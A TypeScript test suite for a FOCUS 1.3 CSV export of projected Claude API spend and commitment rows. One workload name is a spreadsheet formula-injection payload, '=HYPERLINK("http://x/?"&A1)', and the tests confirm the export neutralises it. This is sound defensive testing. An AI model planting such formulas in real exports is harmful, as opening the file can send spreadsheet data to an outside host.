import { parse } from 'csv-parse/sync'
import { Decimal } from 'decimal.js'
import type { FastifyInstance } from 'fastify'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { CONTRACT_COMMITMENT_13, COST_AND_USAGE_13 } from '../../src/modules/focus/focus-13.js'
import { PREVIEW_EXAMPLE_REQUEST } from '../../src/modules/plans/plans.examples.js'
import { bearer, buildTestApp, call, createTenant, expectProblem, type Tenant } from '../helpers/app.js'

/**
 * The FOCUS export (`GET …/scenarios/{id}/focus`): headers held to the FOCUS 1.3 column table kept in the repo,
 * amounts held to the projection's, the recommended commitment as Purchase rows and Contract Commitment rows.
 */
let app: FastifyInstance
let tenant: Tenant
let other: Tenant

beforeAll(async () => {
  app = await buildTestApp()
  tenant = await createTenant(app, 'focus')
  other = await createTenant(app, 'focus-other')
})
afterAll(async () => app?.close())

const { priceBook: _book, workloads: exampleWorkloads, ...exampleScenario } = PREVIEW_EXAMPLE_REQUEST
const example = exampleWorkloads[0]!
const HOSTILE = '=HYPERLINK("http://x/?"&A1)'

const get = (url: string, headers: Record<string, string> = {}, key = tenant.keys.read) =>
  call(app, { method: 'GET', url, headers: { ...bearer(key), ...headers } })
const post = async (url: string, payload: object) => {
  const response = await call(app, { method: 'POST', url, headers: bearer(tenant.keys.write), payload })
  expect(response.statusCode, response.body).toBe(201)
  return response.json()
}

let portfolio: { id: string; name: string }
let workloadIds: string[]
const scenarios: Record<'term' | 'annual' | 'discounted', string> = { term: '', annual: '', discounted: '' }
const base = (which: keyof typeof scenarios) => `/v1/portfolios/${portfolio.id}/scenarios/${scenarios[which]}`

beforeAll(async () => {
  portfolio = await post('/v1/portfolios', { name: `focus ${process.pid}` })
  const created = await post(`/v1/portfolios/${portfolio.id}/workloads`, {
    workloads: [
      { ...example, team: 'data-platform' },
      {
        ...example,
        name: HOSTILE,
        requestsPerMonth: '40000',
        inferenceGeo: null,
        routeToModel: null,
        routableShare: null,
      },
      {
        ...example,
        name: 'support-chat',
        model: 'claude-haiku-4-5',
        userWaiting: true,
        routeToModel: null,
        routableShare: null,
        targetBatchShare: null,
        requestsPerMonth: '2000000',
      },
    ],
  })
  workloadIds = created.data.map((w: { id: string }) => w.id)
  scenarios.term = (
    await post(`/v1/portfolios/${portfolio.id}/scenarios`, { name: 'term', ...exampleScenario })
  ).id
  scenarios.annual = (
    await post(`/v1/portfolios/${portfolio.id}/scenarios`, {
      name: 'annual',
      ...exampleScenario,
      term: { start: '2027-01-01', months: 30 },
      commitment: { ...exampleScenario.commitment, structure: 'annual', proposedCommit: null },
    })
  ).id
  // A tier within reach: the recommendation earns a discount, and list overage.
  scenarios.discounted = (
    await post(`/v1/portfolios/${portfolio.id}/scenarios`, {
      name: 'discounted',
      ...exampleScenario,
      commitment: {
        ...exampleScenario.commitment,
        overage: 'list',
        discountTiers: [{ minCommit: '10000', discountRate: '0.08' }],
      },
    })
  ).id
})

type Row = Record<string, string>
async function dataset(which: keyof typeof scenarios, name = 'cost-and-usage') {
  const response = await get(`${base(which)}/focus?dataset=${name}`)
  expect(response.statusCode, response.body).toBe(200)
  expect(response.headers['content-type']).toBe('text/csv; charset=utf-8; header=present')
  const records = parse(response.body) as string[][]
  const header = records[0]!
  const rows = parse(response.body, { columns: true }) as Row[]
  return { response, header, rows }
}

const cents = (rows: Row[], column: string) =>
  rows.reduce((sum, r) => sum.plus(r[column] || '0'), new Decimal(0))
const usage = (rows: Row[]) => rows.filter((r) => r.ChargeCategory === 'Usage')
const purchases = (rows: Row[]) => rows.filter((r) => r.ChargeCategory === 'Purchase')

describe('headers against the FOCUS 1.3 column table', () => {
  it('Cost and Usage: every Mandatory column, FOCUS names only (plus x_ columns), in FOCUS’s alphabetical order', async () => {
    const { header } = await dataset('term')
    const spec = new Map(COST_AND_USAGE_13.map((c) => [c.column, c]))
    for (const column of COST_AND_USAGE_13.filter((c) => c.level === 'Mandatory'))
      expect(header).toContain(column.column)
    expect(COST_AND_USAGE_13.filter((c) => c.level === 'Mandatory')).toHaveLength(23)
    const focus = header.filter((h) => !h.startsWith('x_'))
    for (const column of focus) expect(spec.has(column), column).toBe(true)
    expect(focus).toEqual([...focus].sort())
    // Custom columns come last and are prefixed x_, as FOCUS requires of them.
    expect(header.slice(focus.length)).toEqual([
      'x_WorkloadId',
      'x_WorkloadName',
      'x_Team',
      'x_Model',
      'x_RouteToModel',
    ])
    expect(new Set(header).size).toBe(header.length)
  })

  it('Contract Commitment: all 13 columns of the dataset', async () => {
    const { header } = await dataset('term', 'contract-commitment')
    expect(header).toEqual(CONTRACT_COMMITMENT_13.map((c) => c.column))
  })

  it('no empty cell where FOCUS allows no null; dates as UTC instants; amounts as bare numbers', async () => {
    for (const which of ['term', 'annual', 'discounted'] as const) {
      const { rows, response } = await dataset(which)
      const required = COST_AND_USAGE_13.filter((c) => !c.nulls).map((c) => c.column)
      for (const row of rows) {
        for (const column of required) expect(row[column], `${column} of ${JSON.stringify(row)}`).not.toBe('')
        for (const column of [
          'BillingPeriodStart',
          'BillingPeriodEnd',
          'ChargePeriodStart',
          'ChargePeriodEnd',
        ])
          expect(row[column]).toMatch(/^\d{4}-\d{2}-\d{2}T00:00:00Z$/)
        // FOCUS's conditional rules for the rows this export writes.
        if (row.ChargeCategory === 'Usage' || row.ChargeCategory === 'Purchase')
          expect(row.PricingQuantity).not.toBe('')
        if (row.CommitmentDiscountId && row.ChargeCategory === 'Usage')
          expect(row.CommitmentDiscountStatus).toMatch(/^(Used|Unused)$/)
        if (!row.CommitmentDiscountId) expect(row.CommitmentDiscountStatus).toBe('')
        if (row.ChargeCategory !== 'Usage' || row.CommitmentDiscountStatus === 'Unused')
          expect(row.ConsumedQuantity).toBe('')
        else expect(row.ConsumedUnit).toBe('Requests')
        if (row.ChargeCategory === 'Purchase') expect(row.EffectiveCost).toBe('0.00')
      }
      for (const line of response.body.split('\r\n').slice(1).filter(Boolean))
        expect(line).toMatch(/^\d+\.\d{2},/)
      const commitments = await dataset(which, 'contract-commitment')
      for (const row of commitments.rows) {
        for (const column of CONTRACT_COMMITMENT_13.filter((c) => !c.nulls))
          expect(row[column.column]).not.toBe('')
      }
    }
  })
})

describe('amounts against the projection', () => {
  for (const which of ['term', 'annual', 'discounted'] as const) {
    it(`${which}: list spend, the commitment bought, drawn down and left unused add up`, async () => {
      const plan = (await get(`${base(which)}/projection?include=months,workloadMonths`)).json()
      const { rows } = await dataset(which)
      const recommendation = plan.recommendation

      // Σ ListCost over usage = the plan's optimized spend (its workload months, cent for cent; the term total
      // within the rounding of those months).
      const months = plan.workloads.flatMap((w: { months: { optimized: string }[] }) => w.months)
      const listed = months.reduce(
        (sum: Decimal, m: { optimized: string }) => sum.plus(m.optimized),
        new Decimal(0),
      )
      expect(cents(usage(rows), 'ListCost').toFixed(2)).toBe(listed.toFixed(2))
      expect(
        cents(usage(rows), 'ListCost')
          .minus(plan.optimized.termSpend)
          .abs()
          .lte(0.005 * months.length),
      ).toBe(true)

      // The recommended commitment is bought: once for the term, or once per contract year.
      const bought = purchases(rows)
      const periods = plan.structure === 'annual' ? recommendation.years : [{ commit: recommendation.commit }]
      expect(bought.map((r) => new Decimal(r.BilledCost!).toFixed(0))).toEqual(
        periods.map((p: { commit: string }) => p.commit),
      )
      expect(cents(bought, 'BilledCost').toFixed(0)).toBe(recommendation.commit)

      // FOCUS: per commitment, Σ EffectiveCost of its usage (Used + Unused) = the BilledCost of its purchase.
      for (const purchase of bought) {
        const drawn = usage(rows).filter((r) => r.CommitmentDiscountId === purchase.CommitmentDiscountId)
        expect(cents(drawn, 'EffectiveCost').toFixed(2)).toBe(new Decimal(purchase.BilledCost!).toFixed(2))
        expect(cents(drawn, 'CommitmentDiscountQuantity').toFixed(2)).toBe(
          new Decimal(purchase.BilledCost!).toFixed(2),
        )
      }
      // ContractApplied (FOCUS 1.3's link to the Contract Commitment dataset): per contract commitment, the amounts
      // its usage rows apply (Used + Unused) add up to its ContractCommitmentCost, and its Purchase row (whose
      // ResourceId it is) applies all of it. The cell arrives as JSON: a leading `'` would not parse.
      const contract = await dataset(which, 'contract-commitment')
      const appliedTo = (row: Row) =>
        row.ContractApplied
          ? (
              JSON.parse(row.ContractApplied) as {
                Elements: {
                  ContractId: string
                  ContractCommitmentID: string
                  ContractCommitmentAppliedCost: number
                }[]
              }
            ).Elements
          : []
      for (const row of rows) {
        const elements = appliedTo(row)
        expect(elements.map((e) => e.ContractCommitmentID)).toEqual(
          row.CommitmentDiscountId ? [row.CommitmentDiscountId] : [],
        )
        for (const element of elements) expect(element.ContractId).toBe(contract.rows[0]!.ContractId)
      }
      for (const commitment of contract.rows) {
        const applied = usage(rows)
          .filter((r) => r.CommitmentDiscountId === commitment.ContractCommitmentId)
          .map((r) => {
            // The applied cost is written digit for digit as the row's draw (EffectiveCost).
            expect(r.ContractApplied).toContain(`"ContractCommitmentAppliedCost":${r.EffectiveCost},`)
            return r.EffectiveCost!
          })
        expect(applied.reduce((sum, a) => sum.plus(a), new Decimal(0)).toFixed(2)).toBe(
          commitment.ContractCommitmentCost,
        )
        const purchase = bought.filter((r) => r.ResourceId === commitment.ContractCommitmentId)
        expect(purchase.map((r) => appliedTo(r)[0]!.ContractCommitmentAppliedCost.toFixed(2))).toEqual(
          new Decimal(commitment.ContractCommitmentCost!).isZero() ? [] : [commitment.ContractCommitmentCost],
        )
      }

      // Everything is paid once: Σ BilledCost = Σ EffectiveCost (the deterministic payment).
      expect(cents(rows, 'BilledCost').toFixed(2)).toBe(cents(rows, 'EffectiveCost').toFixed(2))

      // Every workload month is there, for every workload, once (twice where the commitment runs out in it).
      const perWorkloadMonth = new Map<string, number>()
      for (const row of usage(rows).filter((r) => r.x_WorkloadId)) {
        const key = `${row.x_WorkloadId}|${row.ChargePeriodStart}`
        perWorkloadMonth.set(key, (perWorkloadMonth.get(key) ?? 0) + 1)
      }
      expect(perWorkloadMonth.size).toBe(workloadIds.length * plan.term.months)
      expect([...perWorkloadMonth.values()].filter((n) => n === 2).length).toBeLessThanOrEqual(periods.length)
    })
  }

  it('a discount: drawn-down usage costs the discounted amount; beyond it, list overage is billed at list', async () => {
    const plan = (await get(`${base('discounted')}/recommendation`)).json()
    expect(plan.recommendation.discountRate).toBe('0.080000')
    const { rows } = await dataset('discounted')
    for (const row of usage(rows).filter((r) => r.CommitmentDiscountStatus === 'Used')) {
      expect(row.BilledCost).toBe('0.00')
      expect(row.PricingCategory).toBe('Committed')
      // EffectiveCost = ListCost × (1 − 8%), to the cent (a row cut by the commitment's end within a cent).
      expect(new Decimal(row.ListCost!).times(0.92).minus(row.EffectiveCost!).abs().lte(0.011)).toBe(true)
    }
    for (const row of usage(rows).filter((r) => r.x_WorkloadId && !r.CommitmentDiscountId)) {
      expect(row.BilledCost).toBe(row.ListCost)
      expect(row.PricingCategory).toBe('Standard')
    }
  })

  it('contract commitments: one per contract year under annual, one for the term otherwise, joined by id', async () => {
    for (const which of ['term', 'annual'] as const) {
      const recommendation = (await get(`${base(which)}/recommendation`)).json().recommendation
      const { rows } = await dataset(which, 'contract-commitment')
      const expected =
        which === 'annual'
          ? recommendation.years.map((y: { commit: string }) => y.commit)
          : [recommendation.commit]
      expect(rows.map((r) => new Decimal(r.ContractCommitmentCost!).toFixed(0))).toEqual(expected)
      for (const row of rows)
        expect(row).toMatchObject({
          ContractCommitmentCategory: 'Spend',
          BillingCurrency: 'USD',
          ContractCommitmentQuantity: '',
          ContractCommitmentUnit: '',
        })
      const cost = await dataset(which)
      expect(rows.map((r) => r.ContractCommitmentId)).toEqual(
        purchases(cost.rows).map((r) => r.CommitmentDiscountId),
      )
      if (which === 'annual') {
        expect(rows.map((r) => r.ContractCommitmentPeriodStart)).toEqual([
          '2027-01-01T00:00:00Z',
          '2028-01-01T00:00:00Z',
          '2029-01-01T00:00:00Z',
        ])
        expect(rows.at(-1)!.ContractCommitmentPeriodEnd).toBe('2029-07-01T00:00:00Z')
        expect(new Set(rows.map((r) => r.ContractPeriodEnd))).toEqual(new Set(['2029-07-01T00:00:00Z']))
      }
    }
  })
})

describe('the rest of the contract', () => {
  it('workloads by id and name; a name a spreadsheet would run is neutralized', async () => {
    const { rows, response } = await dataset('term')
    const names = new Map(
      usage(rows)
        .filter((r) => r.x_WorkloadId)
        .map((r) => [r.x_WorkloadId, r.x_WorkloadName]),
    )
    expect([...names.keys()]).toEqual(workloadIds)
    expect(names.get(workloadIds[1]!)).toBe(`'${HOSTILE}`)
    expect(response.body).toContain(`"'=HYPERLINK(""http://x/?""&A1)"`)
    expect(response.headers['content-disposition']).toBe(
      'attachment; filename="term-focus-cost-and-usage.csv"',
    )
    const provider = usage(rows)[0]!
    expect(provider).toMatchObject({
      ProviderName: 'Anthropic',
      PublisherName: 'Anthropic',
      ServiceProviderName: 'Anthropic',
      HostProviderName: 'Anthropic',
      InvoiceIssuerName: 'Anthropic',
      ServiceName: 'Claude API',
      ServiceCategory: 'AI and Machine Learning',
      BillingCurrency: 'USD',
      BillingAccountId: portfolio.id,
      BillingAccountName: portfolio.name,
      x_Team: 'data-platform',
      RegionId: 'global',
    })
  })

  it('an ETag per plan revision and dataset; If-None-Match → 304', async () => {
    const first = await get(`${base('term')}/focus`)
    const tag = String(first.headers.etag)
    expect(tag).toMatch(/^"focus\.cost-and-usage\./)
    expect(
      (await get(`${base('term')}/focus?dataset=cost-and-usage`, { 'if-none-match': tag })).statusCode,
    ).toBe(304)
    expect(
      (await get(`${base('term')}/focus?dataset=contract-commitment`, { 'if-none-match': tag })).statusCode,
    ).toBe(200)
  })

  it('another organization’s scenario is a 404; an unknown dataset a 400', async () => {
    expectProblem(await get(`${base('term')}/focus`, {}, other.keys.read), 404, 'NOT_FOUND')
    const problem = expectProblem(await get(`${base('term')}/focus?dataset=usage`), 400, 'VALIDATION_FAILED')
    expect(problem.errors?.[0]).toMatchObject({ in: 'query', pointer: '/dataset' })
  })
})
